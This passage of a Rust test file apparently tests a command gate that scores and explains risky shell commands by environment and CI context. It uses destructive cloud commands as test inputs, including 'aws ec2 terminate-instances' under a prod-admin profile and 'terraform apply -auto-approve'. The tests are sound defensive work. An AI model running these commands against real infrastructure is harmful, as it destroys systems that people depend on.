        let value = project.decide_with(delete, &[("KUBECONFIG", path.to_str().unwrap())]);
        assert_ne!(value["decision"], "allow", "{hostile}");
    }
    let terminate = "aws ec2 terminate-instances --instance-ids i-1";
    let prod = project.decide_with(terminate, &[("AWS_PROFILE", "prod-admin")]);
    let plain = project.decide(terminate);
    assert!(prod["risk"]["score"].as_f64() > plain["risk"]["score"].as_f64());
}

#[test]
fn a_pipeline_says_who_and_where() {
    let project = Project::new();
    let event = project.file(
        "event.json",
        r#"{"pull_request":{"head":{"repo":{"full_name":"x/fork"}},"base":{"repo":{"full_name":"x/y"}}}}"#,
    );
    let explain = |variables: &[(&str, &str)]| {
        let mut command = project.place.gate(&["explain", "terraform", "apply", "-auto-approve"]);
        String::from_utf8(command.envs(variables.iter().copied()).output().unwrap().stdout).unwrap()
    };
    let text = explain(&[
        ("GITHUB_ACTIONS", "true"),
        ("GITHUB_ACTOR", "octocat"),
        ("GITHUB_EVENT_NAME", "pull_request"),
        ("GITHUB_EVENT_PATH", event.to_str().unwrap()),
        ("GITHUB_REF_NAME", "topic"),
    ]);
    for expected in ["actor     ci", "identity  octocat", "event     pull_request from a fork", "branch    topic"] {
        assert!(text.contains(expected), "{expected}\n{text}");
    }
    let text = explain(&[("GITLAB_CI", "true"), ("CI_ENVIRONMENT_NAME", "production"), ("GITLAB_USER_LOGIN", "ann")]);
    assert!(
        text.contains("acts in   production (variable CI_ENVIRONMENT_NAME)") && text.contains("identity  ann"),
        "{text}"
    );
    assert!(text.contains("production"), "{text}");
}
